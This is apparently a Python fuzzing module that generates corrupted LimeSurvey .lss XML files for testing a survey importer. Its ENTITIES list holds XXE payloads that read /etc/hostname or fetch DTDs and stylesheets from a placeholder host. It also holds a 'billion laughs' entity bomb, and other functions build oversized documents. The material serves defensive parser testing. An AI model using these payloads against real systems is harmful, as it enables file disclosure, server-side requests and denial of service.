"""LimeSurvey's XML, spoilt in its rows, and with what XML can do besides."""

import re
from collections.abc import Callable
from copy import deepcopy
from random import Random
from xml.etree import ElementTree

from bench.fuzzing.hostile import xml_text
from bench.fuzzing.material import File, example

ENTITIES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "http://203.0.113.9/x">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd">',
    '<!DOCTYPE x PUBLIC "-//x//y" "file:///etc/hostname">',
    '<!DOCTYPE x [<!ENTITY e "word">]>',
    "<!DOCTYPE x [<!ENTITY a0 'lol'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "<!ENTITY e '&a9;'>]>",
    "<!DOCTYPE x [<!ENTITY e '" + "x" * 100_000 + "'>]>",
    "<!DOCTYPE x [<!ATTLIST document a CDATA 'b'>]>",
    "<!DOCTYPE x [<!ENTITY e '&e;'>]>",
    "<?xml-stylesheet href='http://203.0.113.9/x.xsl'?>",
    "<!-- -- -->",
    "<![CDATA[",
)
ENCODINGS = ("UTF-16", "latin-1", "cp037", "idna", "punycode", "hex", "zlib", "rot13", "undefined", "x" * 500)
FIELDS = (
    "type",
    "relevance",
    "grelevance",
    "qid",
    "gid",
    "parent_qid",
    "title",
    "language",
    "code",
    "scale_id",
)
TYPES = (*"1!5:;ABCDEFGHIKLMNOPQRSTUXY|*", "", "LL", "0")


def rows(chance: Random) -> File:
    """Fields, rows and tables are changed, doubled or taken out."""
    tree = ElementTree.fromstring(example(chance, ".lss").raw)
    for _ in range(chance.choice((1, 1, 3, 10))):
        parents = {child: parent for parent in tree.iter() for child in parent}
        element = chance.choice(list(parents))
        match chance.randrange(6):
            case 0:
                parents[element].remove(element)
            case 1:
                parents[element].extend([deepcopy(element) for _ in range(chance.choice((1, 1, 20)))])
            case 2:
                element.tag = chance.choice(("row", "rows", "fields", "theme", "questions", "x"))
            case 3:
                _change_field(tree, chance)
            case _:
                element.text = xml_text(chance)
    return File(name="board.lss", raw=ElementTree.tostring(tree, encoding="utf-8", xml_declaration=True))


def _change_field(tree: ElementTree.Element, chance: Random) -> None:
    name = chance.choice(FIELDS)
    found = list(tree.iter(name))
    for element in found[: chance.choice((1, len(found)))]:
        element.text = chance.choice((*TYPES, "1", "999999999999", "-1", xml_text(chance)))


def entities(chance: Random) -> File:
    """It declares things, to be blown up or to be fetched."""
    raw = example(chance, ".lss").raw.decode()
    body = re.sub(r"<\?xml[^>]*\?>", "", raw, count=1)
    texts = [match.start() for match in re.finditer(r"]]>|</", body)]
    at = chance.choice(texts)
    named = chance.choice(
        ("&e;", "&e;" * 50, "]]>&e;<![CDATA[", "&nbsp;", "&#0;", "&#xD800;", "&#x1F600;", "")
    )
    declared = chance.choice(ENTITIES)
    return File(name="board.lss", raw=(declared + body[:at] + named + body[at:]).encode())


def encodings(chance: Random) -> File:
    """It says that it is in another encoding."""
    body = re.sub(rb"<\?xml[^>]*\?>", b"", example(chance, ".lss").raw, count=1)
    said = f"<?xml version='{chance.choice(('1.0', '1.1', '9'))}' encoding='{chance.choice(ENCODINGS)}'?>"
    return File(name="board.lss", raw=said.encode() + body)


def _table(name: str, content: str) -> str:
    return f"<{name}><rows>{content}</rows></{name}>"


def _survey(*tables: str) -> bytes:
    kind = "<LimeSurveyDocType>Survey</LimeSurveyDocType>"
    return f"<?xml version='1.0'?><document>{kind}{''.join(tables)}</document>".encode()


def _languages(many: int) -> bytes:
    def code(number: int) -> str:
        return "".join(chr(97 + number // 26**place % 26) for place in range(3))

    texts = "".join(
        f"<row><qid>1</qid><question>x</question><language>{code(n)}</language></row>" for n in range(many)
    )
    return _survey(_table("question_l10ns", texts))


def many(chance: Random) -> File:
    """There is far too much of something."""
    size = chance.choice((2_000, 50_000, 300_000))
    asks = "<row><qid>{0}</qid><gid>1</gid><type>L</type><title>q{0}</title></row>"
    answers = "<row><qid>{0}</qid><code>{1}</code><answer>x</answer></row>"
    make: Callable[[], bytes] = chance.choice(
        (
            lambda: b"<a>" * size,
            lambda: _survey("<x/>" * size),
            lambda: _survey(_table("questions", "<row/>" * size)),
            lambda: _survey(_table("questions", "<row>" + "<a>1</a>" * size + "</row>")),
            lambda: _survey(_table("questions", f"<row><question>{'<b ' * size}</question></row>")),
            lambda: _survey(
                _table("questions", f"<row><question><![CDATA[{'<b ' * size}]]></question></row>")
            ),
            lambda: _survey(_table("questions", f"<row><question>{'&lt;!--' * size}</question></row>")),
            lambda: _survey("<a " + " ".join(f"a{n}='1'" for n in range(size // 4)) + "/>"),
            lambda: _survey(f"<{'a' * size}/>"),
            lambda: _survey(*(_table(f"t{n}", "<row/>") for n in range(size // 12))),
            lambda: _languages(min(size, 17_000)),
            lambda: _survey(
                _table("groups", "<row><gid>1</gid></row>"),
                _table("questions", "".join(asks.format(n) for n in range(size // 30))),
                _table("answers", "".join(answers.format(n, a) for n in range(size // 60) for a in "ab")),
            ),
        )
    )
    return File(name="many.lss", raw=make()[:4_999_000])
